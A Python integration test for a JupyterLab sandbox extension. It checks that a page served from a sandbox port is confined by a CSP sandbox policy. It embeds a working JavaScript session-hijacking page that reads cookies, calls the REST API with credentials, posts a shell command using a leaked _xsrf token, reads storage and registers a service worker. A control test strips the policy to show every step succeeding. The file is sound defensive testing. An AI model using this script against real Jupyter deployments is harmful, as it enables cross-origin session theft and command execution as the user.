"""A page served from a sandbox's port cannot act with the user's Jupyter session, in a real
browser where the user is logged in to JupyterLab.

Code in the sandbox starts a web server whose page, opened through its port link
(``<base_url>sandbox-ports/<id>/<port>/<token>/``) as a top-level page and in a frame inside
Lab's page, tries everything a script on Jupyter's origin could do: read the user's cookies,
read the REST API with them, run a command through it (handed the user's real ``_xsrf`` token,
as if it had leaked), use the origin's storage, reach into Lab's page, and register a service
worker. The proxy serves every answer under ``Content-Security-Policy: sandbox`` without
``allow-same-origin``, so the page runs in an opaque origin and all of it fails, while the
page's script itself runs (its report reaches its own server through the link).

The page also opens a WebSocket to Jupyter's event stream (WebSockets know no CORS), and it
is served with a policy of its own that allows same-origin, in case a browser let the loosest
of two policies win.

The control serves the very same answers with the policies taken out (Playwright rewrites them
in the browser): every attempt then succeeds, a command run as the user included. So the checks
here can see an escape, and what stops it is the proxy's policy, not the page or the test.
"""

from __future__ import annotations

import json
import re
import shlex
import time
import urllib.parse
import urllib.request
from collections.abc import Callable
from typing import TYPE_CHECKING

import pytest

from tests.labextension.conftest import TIMEOUT_MS, open_lab, shot, start_sandbox
from tests.labextension.lab_server import LabServer

if TYPE_CHECKING:
    from playwright.sync_api import Page, Request, Response, Route

pytestmark = [pytest.mark.integration, pytest.mark.runc, pytest.mark.browser]

PORT = 8000
# Put in localStorage by Lab's page (Jupyter's origin); the attack tries to read it.
SECRET = ("jsbx-secret", "lab-origin-secret")

# The attacking page. It finds Jupyter's base URL and its sandbox's id in its own address (as
# any page can), and the _xsrf token in the query string: the test hands it the user's real
# one, so that only the browser's isolation, not a secret it lacks, can stop the command.
# Each attempt's outcome (its value, or the exception's name and message) goes to the page's
# own server with a relative URL, as an attacker would send what it got.
ATTACK_PAGE = r"""<!doctype html>
<title>sandbox page</title>
<pre id="results">running</pre>
<script>
(async () => {
  const results = {};
  const attempt = async (name, action) => {
    try {
      results[name] = "ok: " + String(await action());
    } catch (error) {
      results[name] = "error: " + error.name + ": " + error.message;
    }
  };
  const [base, rest] = location.pathname.split("sandbox-ports/");
  const sandboxId = rest.split("/")[0];
  const query = new URLSearchParams(location.search);
  const mark = query.get("mark");
  await attempt("origin", () => self.origin);
  await attempt("cookie", () => document.cookie);
  await attempt("api", async () => {
    const answer = await fetch(base + "api/sandboxes", {credentials: "include"});
    return answer.status + " " + JSON.stringify(await answer.json());
  });
  await attempt("command", async () => {
    // A simple request (no preflight): text/plain, the token in the query.
    const url = base + "api/sandboxes/" + sandboxId + "/commands?_xsrf="
      + encodeURIComponent(query.get("xsrf"));
    const answer = await fetch(url, {
      method: "POST", credentials: "include", mode: "no-cors",
      headers: {"Content-Type": "text/plain"},
      body: JSON.stringify({command: "touch /workspace/escaped-" + mark}),
    });
    return answer.type + " " + answer.status;
  });
  await attempt("websocket", () => new Promise((resolve, reject) => {
    // Not subject to CORS: only the cookies and Jupyter's origin check stand in the way.
    const socket = new WebSocket("ws://" + location.host + base + "api/events/subscribe");
    socket.onopen = () => { socket.close(); resolve("open"); };
    socket.onclose = (event) => reject(new Error("closed with code " + event.code));
  }));
  await attempt("localStorage", () => localStorage.getItem("SECRET_KEY"));
  await attempt("indexedDB", () => new Promise((resolve, reject) => {
    const opening = indexedDB.open("jsbx-probe");
    opening.onsuccess = () => { opening.result.close(); resolve("opened"); };
    opening.onerror = () => reject(opening.error);
  }));
  await attempt("parent", () => top === self ? "top-level" : top.document.title);
  await attempt("serviceWorker", async () => {
    const registration = await navigator.serviceWorker.register("sw.js");
    return registration.scope;
  });
  document.getElementById("results").textContent = JSON.stringify(results, null, 1);
  await fetch("report", {method: "POST", mode: "no-cors", body: JSON.stringify({mark, results})});
})();
</script>
""".replace("SECRET_KEY", SECRET[0])

# The sandbox's server (stdlib only): the page, a service worker script, and the reports the
# page sends, kept in memory and handed back at /reports. The page comes with a policy of its
# own that allows all the proxy's does not, in case a browser took the loosest of the two.
SERVER = r"""
import json, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = sys.argv[2].encode()
reports = {}

LOOSE = (
    "sandbox allow-scripts allow-same-origin allow-top-navigation "
    "allow-popups-to-escape-sandbox"
)

class Handler(BaseHTTPRequestHandler):
    def answer(self, body, kind, headers=()):
        self.send_response(200)
        self.send_header("Content-Type", kind)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path == "/sw.js":
            return self.answer(b"self.addEventListener('fetch', () => {});", "text/javascript")
        if self.path == "/reports":
            return self.answer(json.dumps(reports).encode(), "application/json")
        self.answer(PAGE, "text/html; charset=utf-8", [("Content-Security-Policy", LOOSE)])

    def do_POST(self):
        report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        reports[report["mark"]] = report["results"]
        self.answer(b"", "text/plain")

ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
"""

ATTACK = (
    "a page served from a sandbox's port (through its link, on Jupyter's host) run in the "
    "browser of the logged-in user, as a top-level page and in a frame inside JupyterLab: "
    "reading document.cookie, reading the REST API with the user's cookies, POSTing a command "
    "with the user's real _xsrf token, localStorage and IndexedDB of Jupyter's origin, "
    "top.document of Lab's page, a WebSocket to Jupyter's event stream, registering a service "
    "worker; the page served with a policy of its own allowing same-origin"
)
EXPECTED = (
    "every attempt fails (the page runs in an opaque origin: SecurityError, the API fetch "
    "rejected, the WebSocket and the POST refused and no command run, no service worker) while "
    "the page's own script runs and reaches its server"
)


@pytest.mark.checklist(row=24, attack=ATTACK, expected=EXPECTED)
def test_a_sandboxs_page_cannot_act_with_the_users_session(
    server: LabServer, page: object, observe: Callable[..., None]
) -> None:
    attack = run_attack(server, page, strip_policy=False)
    for mark in ("top", "frame"):
        results = attack.reports[mark]
        assert results["origin"] == "ok: null", results
        for name in ("cookie", "localStorage", "indexedDB", "serviceWorker"):
            assert results[name].startswith("error: SecurityError"), (mark, name, results)
        # The API's answer is unreadable (no CORS for an opaque origin): the fetch rejects.
        assert results["api"].startswith("error: TypeError"), results
        # The page cannot tell how the POST went; the server refused it (below).
        assert results["command"] == "ok: opaque 0", results
        assert results["websocket"] == "error: Error: closed with code 1006", results
    assert attack.reports["top"]["parent"] == "ok: top-level"
    assert attack.reports["frame"]["parent"].startswith("error: SecurityError"), attack.reports
    # The browser sent Jupyter's cookies with none of the page's requests to the API, and the
    # server refused the POSTs: no command ran in the sandbox.
    assert attack.api_requests == 4, attack  # a GET and a POST from each place
    assert attack.api_cookies == [], attack.api_cookies
    # Refused twice over: no login cookie, and Jupyter's check of cross-origin API requests
    # (Origin: null is not its host), which answers 404 before that.
    assert len(attack.command_statuses) == 2, attack
    assert set(attack.command_statuses) <= {403, 404}, attack
    assert attack.escaped_files == "", attack.escaped_files
    assert attack.service_workers == [0, 0]
    # The attempts of both places (but "origin", and "parent" where there is none), and the
    # page's own loose policy, once per place.
    attempts = sum(len(results) - 1 for results in attack.reports.values()) - 1 + 2
    observe(
        "the page ran, top-level and in a frame in Lab, in origin null despite its own "
        "allow-same-origin policy: document.cookie, localStorage, IndexedDB, "
        "navigator.serviceWorker and Lab's top.document threw SecurityError; the API fetch was "
        "rejected and the event WebSocket closed unopened (1006); the browser sent no cookie "
        f"with the page's {attack.api_requests} API requests; the POSTs with the real _xsrf "
        f"were answered {'/'.join(map(str, sorted(set(attack.command_statuses))))} and ran no "
        "command; no service worker registered; the page's reports reached its server",
        cases=attempts,
    )


def test_the_same_page_without_the_sandbox_policy_acts_as_the_user(
    server: LabServer, page: object
) -> None:
    """The control: the proxy's answers with their Content-Security-Policy taken out in the
    browser. The same page then reads the cookies, the API, the storage and Lab's page,
    registers a service worker, and runs a command as the user (from both places)."""
    attack = run_attack(server, page, strip_policy=True)
    for mark in ("top", "frame"):
        results = attack.reports[mark]
        assert results["origin"] == f"ok: {server.url}", results
        assert "_xsrf=" in results["cookie"], results
        assert results["api"].startswith("ok: 200 "), results
        assert attack.sandbox_id in results["api"], results
        assert results["command"] == "ok: basic 200", results
        assert results["websocket"] == "ok: open", results
        assert results["localStorage"] == f"ok: {SECRET[1]}", results
        assert results["indexedDB"] == "ok: opened", results
        assert results["serviceWorker"].startswith(f"ok: {server.url}/sandbox-ports/"), results
    # Lab's title, read through the frame's parent.
    assert re.fullmatch(r"ok: .*JupyterLab", attack.reports["frame"]["parent"]), attack.reports
    assert attack.api_requests == 4, attack
    assert len(attack.api_cookies) == 4, attack
    assert all("_xsrf=" in cookie for cookie in attack.api_cookies), attack
    assert attack.command_statuses == [200, 200], attack
    assert attack.escaped_files.split() == ["escaped-frame", "escaped-top"]
    assert attack.service_workers == [1, 1]


class Attack:
    """What the attacking page saw (its reports, as its server got them) and what the test saw
    around it."""

    def __init__(self, sandbox_id: str) -> None:
        self.sandbox_id = sandbox_id
        self.reports: dict[str, dict[str, str]] = {}
        self.api_requests = 0  # the page's requests to Jupyter's API the browser sent
        self.api_cookies: list[str] = []  # the Cookie headers of those
        self.command_statuses: list[int] = []  # the server's answers to the page's POSTs
        self.escaped_files = ""  # what the POSTs would have created in /workspace
        self.service_workers: list[int] = []  # on Jupyter's origin, after each page

    def __repr__(self) -> str:
        return f"Attack({vars(self)!r})"


def run_attack(server: LabServer, page: object, strip_policy: bool) -> Attack:
    """A sandbox serving ATTACK_PAGE; Lab opened (the user logged in, a secret in its
    localStorage); the page's link opened in a new tab of the same browser, then in a frame
    put into Lab's page. With ``strip_policy``, the proxy's Content-Security-Policy is taken
    out of the page's answers in the browser (the control)."""
    from playwright.sync_api import Page, expect

    assert isinstance(page, Page)
    sandbox_id = start_sandbox(server)
    attack = Attack(sandbox_id)
    link = start_attacking_server(server, sandbox_id)
    context = page.context
    api_requests: list[Request] = []

    def from_the_page(request: Request) -> bool:
        return "/api/" in request.url and "/sandbox-ports/" in frame_url(request)

    def record(request: Request) -> None:
        if from_the_page(request):
            api_requests.append(request)

    def answered(response: Response) -> None:
        if from_the_page(response.request) and response.request.method == "POST":
            attack.command_statuses.append(response.status)

    context.on("request", record)
    context.on("response", answered)

    open_lab(page, server)
    expect(page.locator("#jupyter-sandbox-status")).to_have_count(1)  # Lab is up
    page.evaluate("([key, value]) => localStorage.setItem(key, value)", SECRET)
    xsrf = next(c["value"] for c in context.cookies() if c["name"] == "_xsrf")
    query = "?xsrf=" + urllib.parse.quote(xsrf, safe="")

    if strip_policy:
        context.route(re.compile(re.escape(link) + r"\?xsrf="), without_policy)
        # A page Playwright answers has no address, so Chromium takes it for one on the public
        # network, and its local network access checks would block the page's WebSocket to
        # 127.0.0.1 (its fetches they let through): granted here, as a user would when Chromium
        # asks. The proxy's own page comes from 127.0.0.1, so those checks never apply to it.
        context.grant_permissions(["local-network-access"], origin=server.url)
    top = context.new_page()
    top.goto(f"{link}{query}&mark=top")
    wait_for_report(top, link, "top", attack)
    shot(top, "port-isolation-top" + ("-control" if strip_policy else ""))
    note_cookies(api_requests, attack)  # while the page, which holds its requests, is open
    top.close()
    attack.service_workers.append(service_workers(page))

    page.bring_to_front()
    page.evaluate(
        """src => {
            const frame = document.createElement('iframe');
            frame.id = 'jsbx-attack-frame';
            frame.src = src;
            frame.style = 'position: fixed; right: 0; bottom: 0; width: 600px; height: 300px;'
                + ' z-index: 10000; background: white';
            document.body.appendChild(frame);
        }""",
        f"{link}{query}&mark=frame",
    )
    wait_for_report(page, link, "frame", attack)
    shot(page, "port-isolation-frame" + ("-control" if strip_policy else ""))
    attack.service_workers.append(service_workers(page))

    note_cookies(api_requests, attack)
    attack.escaped_files = sandbox_run(server, sandbox_id, "ls /workspace | grep ^escaped- || true")
    return attack


def service_workers(page: Page) -> int:
    """How many service workers are registered on Jupyter's origin (asked in Lab's page); all
    are then unregistered, so that none serves the next page in place of the proxy."""
    return int(
        page.evaluate(
            """async () => {
                const registrations = await navigator.serviceWorker.getRegistrations();
                await Promise.all(registrations.map(r => r.unregister()));
                return registrations.length;
            }"""
        )
    )


def note_cookies(requests: list[Request], attack: Attack) -> None:
    """The Cookie headers the browser sent with ``requests`` (taken from the list)."""
    while requests:
        attack.api_requests += 1
        cookie = requests.pop().all_headers().get("cookie")
        if cookie is not None:
            attack.api_cookies.append(cookie)


def start_attacking_server(server: LabServer, sandbox_id: str) -> str:
    """SERVER started in the sandbox (a background command, as the sandbox's own code would);
    its port's link, as a full URL, once it listens."""
    command = shlex.join(["python", "-c", SERVER, str(PORT), ATTACK_PAGE])
    code, started = server.api(
        "POST", f"api/sandboxes/{sandbox_id}/commands", {"command": command, "background": True}
    )
    assert code == 201, started
    deadline = time.monotonic() + 30
    while True:  # polling until it listens, not waiting a fixed time
        code, listed = server.api("GET", f"api/sandboxes/{sandbox_id}/ports")
        assert code == 200, listed
        if PORT in [p["port"] for p in listed["ports"]]:
            break
        assert time.monotonic() < deadline, listed
        time.sleep(0.2)
    code, made = server.api("GET", f"api/sandboxes/{sandbox_id}/ports/{PORT}")
    assert code == 200, made
    return server.url + str(made["url"])


def wait_for_report(page: Page, link: str, mark: str, attack: Attack) -> None:
    """The page's report for ``mark``, as its server got it (through the link, without any of
    the user's credentials: the link is enough). Waits in ``page``, so that Playwright
    dispatches the control's route handler meanwhile."""
    deadline = time.monotonic() + TIMEOUT_MS / 1000
    while mark not in attack.reports:
        assert time.monotonic() < deadline, f"the page ({mark}) never reported: did it run?"
        page.wait_for_timeout(200)
        with urllib.request.urlopen(link + "reports", timeout=30) as answer:
            attack.reports = json.loads(answer.read())


def sandbox_run(server: LabServer, sandbox_id: str, command: str) -> str:
    code, result = server.api("POST", f"api/sandboxes/{sandbox_id}/commands", {"command": command})
    assert code == 200, result
    assert result["exit_code"] == 0, result
    return str(result["stdout"])


def frame_url(request: Request) -> str:
    """The URL of the frame that sent ``request`` ("" for a service worker's)."""
    from playwright.sync_api import Error

    try:
        return request.frame.url
    except Error:  # a service worker's request has no frame
        return ""


def without_policy(route: Route) -> None:
    """The proxy's real answer, less its Content-Security-Policy (the control)."""
    answer = route.fetch()
    headers = {
        name: value
        for name, value in answer.headers.items()
        if name.lower() != "content-security-policy"
    }
    route.fulfill(response=answer, headers=headers)
